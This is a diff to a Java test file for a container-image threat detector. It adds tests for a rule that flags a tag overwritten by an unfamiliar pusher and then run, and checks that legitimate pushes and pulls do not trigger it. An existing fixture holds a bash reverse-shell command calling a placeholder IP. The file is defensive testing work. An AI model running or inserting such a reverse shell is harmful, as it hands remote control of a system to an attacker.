@@ -58,6 +58,8 @@ class ImageDetectorTest extends DetectorContract {
         "images-by-digest-repartition",
         "images-by-layer-repartition",
         "image-layers",
+        "pushes-by-tag-repartition",
+        "image-tags",
         "flagged-containers",
         "image-verdicts",
         "containers-by-digest",
@@ -78,6 +80,7 @@ class ImageDetectorTest extends DetectorContract {
   protected List<SpecificRecord> storedBy() {
     List<SpecificRecord> events = new ArrayList<>(story());
     events.add(named(APP, OTHER_DIGEST, List.of("/app"), layer(1)));
+    events.add(pushed(APP, OTHER_DIGEST, "ci", MORNING));
     return events;
   }
 
@@ -194,6 +197,77 @@ class ImageDetectorTest extends DetectorContract {
   }
 
   @Test
+  void findsWhatAStrangerPutInThePlaceOfAnImageWhicheverIsSeenFirst() {
+    SpecificRecord stood = pushed(APP, OTHER_DIGEST, "ci", MORNING);
+    SpecificRecord implanted = pushed(APP, DIGEST, "mallory", MORNING.plus(Duration.ofDays(9)));
+    SpecificRecord container = running("c1", APP, DIGEST, MORNING.plus(Duration.ofDays(10)));
+
+    for (List<SpecificRecord> order :
+        List.of(
+            List.of(stood, implanted, container),
+            List.of(container, implanted, stood),
+            List.of(implanted, stood, container, stood))) {
+      assertThat(of("IMG-14", play(order)))
+          .singleElement()
+          .satisfies(
+              signal -> {
+                assertThat(signal.getSubject()).isEqualTo("prod/container/c1");
+                assertThat(signal.getDetail()).contains(APP).contains("mallory");
+                assertThat(signal.getTraits()).containsExactly("IMPLANTED");
+                assertThat(signal.getWeight()).isEqualTo(12);
+                assertThat(signal.getEvidence()).hasSize(2);
+              });
+    }
+  }
+
+  @Test
+  void takesAnImplantBackWhenALatePushShowsThatItsPusherWasThereBefore() {
+    List<SpecificRecord> events = new ArrayList<>();
+    events.add(pushed(APP, OTHER_DIGEST, "ci", MORNING));
+    events.add(pushed(APP, DIGEST, "jane", MORNING.plus(Duration.ofDays(9))));
+    events.add(running("c1", APP, DIGEST, MORNING.plus(Duration.ofDays(10))));
+    List<SpecificRecord> late = new ArrayList<>(events);
+    late.add(pushed(APP, OTHER_DIGEST, "jane", MORNING.plus(Duration.ofHours(1))));
+
+    assertThat(rules(standing(events))).contains("IMG-14");
+    assertThat(rules(standing(late))).doesNotContain("IMG-14");
+    assertThat(rules(standing(reversed(late)))).doesNotContain("IMG-14");
+  }
+
+  @Test
+  void leavesReleasesAloneThatEachHaveATagOfTheirOwnAndPullsAndPushesOfNobody() {
+    List<SpecificRecord> releases =
+        List.of(
+            pushed("registry.example/shop/web:1", OTHER_DIGEST, "ci", MORNING),
+            pushed("registry.example/shop/web:2", DIGEST, "jane", MORNING.plus(Duration.ofDays(9))),
+            running(
+                "c1", "registry.example/shop/web:2", DIGEST, MORNING.plus(Duration.ofDays(10))));
+    List<SpecificRecord> nobody =
+        List.of(
+            pushed(APP, OTHER_DIGEST, "", MORNING),
+            pushed(APP, DIGEST, "", MORNING.plus(Duration.ofDays(9))),
+            running("c1", APP, DIGEST, MORNING.plus(Duration.ofDays(10))));
+    List<SpecificRecord> pulls =
+        List.of(
+            pull(APP, OTHER_DIGEST, MORNING),
+            pull(APP, DIGEST, MORNING.plus(Duration.ofDays(9))),
+            running("c1", APP, DIGEST, MORNING.plus(Duration.ofDays(10))));
+
+    assertThat(of("IMG-14", play(releases))).isEmpty();
+    assertThat(of("IMG-14", play(nobody))).isEmpty();
+    assertThat(of("IMG-14", play(pulls))).isEmpty();
+  }
+
+  private static ImagePull pushed(String image, String digest, String pusher, Instant time) {
+    return ImagePull.newBuilder(pull(image, digest, time))
+        .setEventId("push-" + image + "@" + time)
+        .setTag(image.substring(image.lastIndexOf(':') + 1))
+        .setAction("push")
+        .setPuller(pusher)
+        .build();
+  }
+
+  @Test
   void saysWhoFetchedALatentImageAndWhoRunsIt() {
     List<String> shell = List.of("bash", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1");
     List<SpecificRecord> events =
@@ -299,6 +373,7 @@ class ImageDetectorTest extends DetectorContract {
             defaults.newFor(),
             defaults.learning(),
             defaults.remember(),
+            defaults.tagStands(),
             defaults.timeToLive());
 
     try (DetectorHarness harness = new DetectorHarness(new ImageDetector(settings))) {
@@ -325,6 +400,7 @@ class ImageDetectorTest extends DetectorContract {
             defaults.newFor(),
             defaults.learning(),
             defaults.remember(),
+            defaults.tagStands(),
             defaults.timeToLive());
 
     try (DetectorHarness harness = new DetectorHarness(new ImageDetector(settings))) {
@@ -440,6 +516,7 @@ class ImageDetectorTest extends DetectorContract {
                     ok.newFor(),
                     ok.learning(),
                     ok.remember(),
+                    ok.tagStands(),
                     ok.timeToLive()))
         .hasMessageContaining("image.known-bad")
         .hasMessageContaining("tomcat");
